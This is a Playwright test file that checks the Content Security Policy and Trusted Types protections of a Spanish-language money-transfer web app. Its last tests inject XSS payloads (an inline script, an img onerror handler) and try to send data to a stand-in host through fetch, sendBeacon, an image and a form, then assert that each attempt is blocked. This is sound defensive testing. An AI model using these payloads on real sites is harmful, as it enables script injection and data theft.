import { expect, type Page } from '@playwright/test';
import { paths, protectedPaths, type AppPath } from '@/lib/paths';
import { confirm, quoteAndChoose, receipt } from './hands';
import { test } from './servingFixtures';

/** The browser logs violations of the pages' policy as console errors, which fail every test that uses `app`. */

const isProtected = (path: AppPath) => protectedPaths.some((one) => one === path);
/** The pages of a transfer, each of which needs the one before it. */
const steps: readonly AppPath[] = [paths.sendQuote, paths.sendBeneficiary, paths.receipt];

async function seeAllOf(page: Page) {
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.getByRole('contentinfo').scrollIntoViewIfNeeded();
  await page.waitForLoadState('networkidle');
}

test('no public page violates its policy @all', async ({ app, page }) => {
  await app.open(paths.legalNotice);
  for (const path of Object.values(paths).filter((one) => !isProtected(one))) {
    await page.goto(path);
    await seeAllOf(page);
  }
  await page.goto(paths.home);
  await page.getByRole('button', { name: 'Cambiar entre modo claro y oscuro' }).click();
  await page.getByRole('heading', { name: /Lo que cuentan/ }).scrollIntoViewIfNeeded();
  await expect(page.getByRole('region', { name: 'Testimonios' })).toBeVisible();
});

test('nothing from the login to the receipt violates the policy @all', async ({ app, page }) => {
  await app.open(paths.login);
  await app.signIn();
  await quoteAndChoose(page);
  await confirm(page).click();
  await expect(receipt(page)).toBeVisible();
  expect(await app.sent()).toHaveLength(1);
  for (const path of protectedPaths.filter((one) => !steps.includes(one))) {
    await page.goto(path);
    await seeAllOf(page);
  }
});

test('a dialog and a toast are allowed, and the page behind the dialog does not scroll @all', async ({
  app,
  page,
}) => {
  await app.open(paths.sendBeneficiary, { scenario: 'aprobada' });
  await page.getByRole('button', { name: 'Opciones de' }).first().click();
  await page.getByRole('button', { name: /Eliminar/ }).click();
  const dialog = page.getByRole('dialog');
  await expect(dialog).toBeVisible();
  await page.mouse.wheel(0, 600);
  expect(await page.evaluate(() => getComputedStyle(document.documentElement).overflowY)).toBe('hidden');
  await dialog.getByRole('button', { name: 'Eliminar' }).click();
  await expect(dialog).toBeHidden();
});

test('only a browser that is too old for the app is asked to be updated @all', async ({ app, page }) => {
  const notice = page.getByRole('alert').filter({ hasText: /^Tu navegador es demasiado antiguo/ });
  await app.open(paths.login);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await expect(notice).toBeHidden();
  await page.addInitScript(() => Reflect.deleteProperty(Array.prototype, 'findLast'));
  for (const path of [paths.login, paths.sendQuote]) {
    await app.open(path);
    await expect(notice).toBeVisible();
  }
});

test('an injected script does not run @all', async ({ page }) => {
  await page.route('/contacto', async (route) => {
    const response = await route.fetch();
    const injected =
      '<script>window.ran = "script"</script><img src="data:," onerror="window.ran = \'handler\'">';
    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${injected}</body>`) });
  });
  const refused: string[] = [];
  page.on('console', (message) => refused.push(message.text()));
  await page.goto('/contacto');
  await expect(page.getByRole('heading', { level: 1, name: 'Contacto' })).toBeVisible();
  await expect
    .poll(() => refused.filter((text) => /inline (script|event handler)/.test(text)))
    .toHaveLength(2);
  expect(await page.evaluate(() => (window as { ran?: string }).ran)).toBeUndefined();
});

test('text never becomes markup or a script @all', async ({ page }) => {
  await page.goto('/contacto');
  const attempts = {
    markup: () => (document.body.innerHTML = '<img src="data:," onerror="alert(1)">'),
    script: () => (document.createElement('script').text = 'alert(1)'),
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    await expect(page.evaluate(attempt), name).rejects.toThrow(/TrustedHTML|TrustedScript/);
  }
});

test('a script of the page reaches no other host by a request, a picture, a report or a form @all', async ({
  page,
}) => {
  await page.goto('/contacto');
  const reached: string[] = [];
  await page.context().route('https://elsewhere.example/**', async (route) => {
    reached.push(route.request().url());
    await route.fulfill({ body: '' });
  });
  const blocked = await page.evaluate(async () => {
    const directives: string[] = [];
    const formBlocked = new Promise<void>((done) =>
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        directives.push(effectiveDirective);
        if (effectiveDirective === 'form-action') done();
      }),
    );
    const address = 'https://elsewhere.example/?data=1';
    await fetch(address, { mode: 'no-cors' }).catch(() => undefined);
    navigator.sendBeacon(address, 'data');
    await new Promise((done) => {
      const picture = new Image();
      picture.onload = picture.onerror = done;
      picture.src = address;
    });
    const form = document.createElement('form');
    form.action = address;
    document.body.append(form);
    form.submit();
    await formBlocked;
    return directives;
  });
  expect(blocked).toEqual(['connect-src', 'connect-src', 'img-src', 'form-action']);
  expect(reached).toEqual([]);
});
